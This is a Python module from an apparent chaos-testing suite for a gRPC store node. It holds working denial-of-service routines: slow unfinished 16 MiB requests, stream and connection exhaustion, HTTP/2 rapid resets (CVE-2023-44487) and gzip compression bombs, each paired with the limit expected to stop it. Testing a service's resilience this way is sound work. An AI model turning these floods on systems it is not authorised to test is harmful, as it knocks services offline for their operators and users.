"""Attacks with calls that never complete, or that are reset at once."""

from __future__ import annotations

import asyncio
import random
from collections import Counter
from contextlib import AsyncExitStack
from typing import Any, Final

import grpc

from chaos.attacks.http2 import MESSAGE_HEAD, Connection, connected
from chaos.attacks.registry import Target, attack

STORE: Final = "/storenode.v1.Store/"
_MESSAGE_BYTES: Final = 16 * 1024 * 1024
_CONNECTIONS: Final = 4
_PER_CONNECTION: Final = 3_000
_CROWD: Final = 200
_AT_ONCE: Final = 200
_DEADLINE_S: Final = 60.0
_PATHS: Final = ("Publish", "Query", "Scan", "Follow", "PublishStream")


@attack(count=64, short=48)
async def unfinished_requests(target: Target, _rng: random.Random, count: int) -> str:
    """Send requests of 16 MiB without the last byte; the limit of incomplete requests ends them."""
    async with connected(target.address) as connection:
        sent = await asyncio.gather(
            *(_one(connection, _PATHS[number % 2]) for number in range(count))
        )
        await asyncio.sleep(15.0)
        return _taken(sum(sent), count, connection.ended)


@attack(count=64, short=32)
async def unfinished_streams(target: Target, _rng: random.Random, count: int) -> str:
    """Open publish streams whose first request lacks the last byte; their budget ends them."""

    async def some() -> tuple[int, int]:
        async with connected(target.address) as connection:
            calls = (_one(connection, "PublishStream") for _ in range(count // _CONNECTIONS))
            sent = await asyncio.gather(*calls)
            await asyncio.sleep(10.0)
            return sum(sent), connection.ended

    results = await asyncio.gather(*(some() for _ in range(_CONNECTIONS)))
    return _taken(sum(sent for sent, _ in results), count, sum(ended for _, ended in results))


@attack(count=30_000, short=6_000)
async def silent_calls(target: Target, _rng: random.Random, count: int) -> str:
    """Open calls without a message over many connections.

    The limit of streams per connection and a deadline end them.
    """
    async with AsyncExitStack() as stack:
        connections = []
        for start in range(0, count, _PER_CONNECTION):
            connection = await stack.enter_async_context(connected(target.address))
            for number in range(min(_PER_CONNECTION, count - start)):
                connection.open(STORE + _PATHS[number % len(_PATHS)])
            await connection.drain()
            connections.append(connection)
        await asyncio.sleep(20.0)
        return f"the node ended {sum(each.ended for each in connections)} of {count} calls"


@attack(count=40_000, short=4_000)
async def crowded_calls(target: Target, _rng: random.Random, count: int) -> str:
    """Send more queries over 200 connections than a node serves in seconds.

    The node serves the connections in turn and refuses no query.
    """
    async with AsyncExitStack() as stack:
        opening = (stack.enter_async_context(connected(target.address)) for _ in range(_CROWD))
        connections = [await each for each in opening]
        for number in range(count):
            connection = connections[number % _CROWD]
            stream = connection.open(STORE + "Query")
            connection.send(stream, MESSAGE_HEAD.pack(False, 0), last=True)
            if number % _AT_ONCE == 0:
                await asyncio.gather(*(each.drain() for each in connections))
        await asyncio.sleep(20.0)
        return f"the node ended {sum(each.ended for each in connections)} of {count} calls"


@attack(count=200_000, short=20_000)
async def rapid_resets(target: Target, _rng: random.Random, count: int) -> str:
    """Open calls and reset them at once (CVE-2023-44487); the limit of streams ends them."""
    async with connected(target.address) as connection:
        for number in range(count):
            if connection.lost.is_set():
                return f"the node closed the connection after {number:,} resets"
            stream = connection.open(STORE + "Query")
            connection.send(stream, MESSAGE_HEAD.pack(False, 0), last=True)
            connection.reset(stream)
            if number % _AT_ONCE == 0:
                await connection.drain()
                await asyncio.sleep(0)
        return f"the node let {count:,} calls be begun and dropped over one connection"


@attack(count=200, short=50)
async def compressed_requests(target: Target, _rng: random.Random, count: int) -> str:
    """Send requests of 16 KB that unpack to 16 MiB; the node refuses them before unpacking."""
    options = [("grpc.max_send_message_length", -1)]
    async with grpc.aio.insecure_channel(target.address, options=options) as channel:
        publish: Any = channel.unary_unary(STORE + "Publish", None, None)
        request = bytes(_MESSAGE_BYTES - 64)

        async def call() -> str:
            made = publish(request, timeout=_DEADLINE_S, compression=grpc.Compression.Gzip)
            return str((await made.code()).name)

        codes = Counter(await asyncio.gather(*(call() for _ in range(count))))
    return "; ".join(f"{number} of {count} ended {code}" for code, number in codes.items())


async def _one(connection: Connection, method: str) -> int:
    """Send a message without its last byte, and return the number of bytes that the node read."""
    stream = connection.open(STORE + method)
    return await connection.send_zeros(stream, _MESSAGE_BYTES, _MESSAGE_BYTES - 1)


def _taken(sent: int, count: int, ended: int) -> str:
    return f"the node took {sent / 1024**2:,.0f} MiB of {count} requests, and ended {ended}"
